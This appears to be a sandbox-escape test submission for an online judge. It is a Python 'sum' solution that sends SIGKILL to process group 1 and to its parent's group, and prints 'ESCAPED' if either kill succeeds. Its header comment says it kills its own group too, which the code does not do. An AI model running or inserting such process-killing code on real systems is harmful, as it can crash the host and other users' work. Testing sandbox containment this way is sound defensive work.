# problem: sum
# want: accepted
# why: kills process groups: its own, its parent's, number 1

import os
import signal

escaped = []
for group in (1, os.getppid()):
    if group > 0 and group != os.getpgrp():
        try:
            os.killpg(group, signal.SIGKILL)
            escaped.append(group)
        except OSError:
            pass

a, b = map(int, input().split())
print("ESCAPED", *escaped) if escaped else print(a + b)
